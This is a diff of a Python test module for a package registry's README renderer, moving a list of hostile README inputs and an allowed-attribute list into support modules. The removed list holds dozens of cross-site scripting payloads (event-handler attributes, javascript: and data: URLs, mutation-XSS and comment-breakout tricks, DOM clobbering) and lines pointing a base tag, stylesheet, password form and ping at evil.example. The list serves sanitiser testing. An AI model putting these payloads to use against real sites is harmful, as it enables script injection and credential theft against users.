@@ -11,7 +11,8 @@ from registry_site import markdown
 from registry_site.markdown import render_readme
 from registry_site.markdown.balanced_html import TAGS
 from registry_site.markdown.limits import MAX_HTML_CHARACTERS, MAX_TEXT_BYTES
-from tests.support.hostile_readmes import MAKERS
+from tests.support.hostile_readmes import ATTACKS, MAKERS
+from tests.support.readme_pages import SAFE_ATTRIBUTES
 
 pytestmark = pytest.mark.database_independent
 
@@ -193,88 +194,6 @@ def test_hostile_readme_ends_as_html_or_text() -> None:
         if not render(make(512 * 1024)).startswith("<pre>"):
             offenders.append(f"{name}, 512 KiB")
     assert offenders == []
-
-
-ATTACKS = """\
-[a](javascript:hit())
-[a](JaVaScRiPt:hit())
-[a](java&#10;script:hit())
-[a](&#1;javascript:hit())
-[a](vbscript:hit())
-[a](data:text/html,<script>hit()</script>)
-![a](data:image/svg+xml,<svg/onload=hit()>)
-![a](https://a.b/"onerror="hit())
-![a](x "onerror=hit()")
-<javascript:hit()>
-[a]: javascript:hit()
-<a href=javascript:hit()>a</a>
-<a href="&#106;avascript:hit()">a</a>
-<a href=" javascript:hit()">a</a>
-<a href="https://a.b" target=_blank onclick=hit()>a</a>
-<img src=x onerror=hit()>
-<img/src=x/onerror=hit()>
-<img src="x"onerror="hit()">
-<img src='a>b' onerror='hit()'>
-<IMG SRC=x OnErRoR=hit()>
-<img src=`a` onerror=hit()>
-<img srcset="javascript:hit() 1x">
-<picture><source srcset="data:image/svg+xml,a"></picture>
-<svg onload=hit()>
-<svg><script>hit()</script></svg>
-<svg><animate onbegin=hit() attributeName=a></svg>
-<svg><a xlink:href="javascript:hit()"><text>a</text></a></svg>
-<math href="javascript:hit()">a</math>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
-<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">
-<noscript><p title="</noscript><img src=x onerror=hit()>">
-<style><img src="</style><img src=x onerror=hit()>">
-<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>
-<title><img src=x onerror=hit()></title>
-<xmp><img src=x onerror=hit()></xmp>
-<plaintext><img src=x onerror=hit()>
-<iframe src="javascript:hit()"></iframe>
-<iframe srcdoc="<script>hit()</script>"></iframe>
-<object data="javascript:hit()"></object>
-<embed src="javascript:hit()">
-<base href="https://evil.example/">
-<meta http-equiv=refresh content="0;url=javascript:hit()">
-<link rel=stylesheet href="https://evil.example/a.css">
-<form action="https://evil.example/"><input name=password><button formaction=javascript:hit()>a</button></form>
-<input type=image src=x onerror=hit()>
-<input autofocus onfocus=hit()>
-<details ontoggle=hit() open>a</details>
-<div style="background:url(javascript:hit())">a</div>
-<div style="position:fixed;inset:0">a</div>
-<style>*{background:red}</style>
-<b class="anything else">a</b>
-<a id=login name=location>a</a>
-<h1 id="document">a</h1>
-<img id=cookie name=getElementById>
-<video src=x onerror=hit() controls></video>
-<audio src=x onerror=hit()></audio>
-<marquee onstart=hit()>a</marquee>
-<template><img src=x onerror=hit()></template>
-<a href="https://a.b" ping="https://evil.example">a</a>
-<!--><img src=x onerror=hit()>-->
-<!-- --!><img src=x onerror=hit()> -->
-<![CDATA[<img src=x onerror=hit()>]]>
-<?php <img src=x onerror=hit()> ?>
-<scr<script>ipt>hit()</scr</script>ipt>
-<<script>hit()//<</script>
-<a:b onclick=hit()>a
-```"><img/src=x/onerror=hit()>
-```rust"onmouseover="hit()
-[^"><img src=x onerror=hit()>]
-# <img src=x onerror=hit()>"onclick="hit()
-> [!NOTE]<img src=x onerror=hit()>
-|<img src=x onerror=hit()>|
-""".splitlines()
-
-SAFE_ATTRIBUTES = (
-    "align", "alt", "aria-label", "checked", "cite", "class", "colspan", "datetime", "dir", "disabled", "height",
-    "href", "hreflang", "id", "lang", "loading", "media", "name", "open", "rel", "reversed", "rowspan", "scope",
-    "size", "span", "src", "srcset", "start", "title", "type", "valign", "value", "width",
-)  # fmt: skip
 
 
 class Harm(HTMLParser):
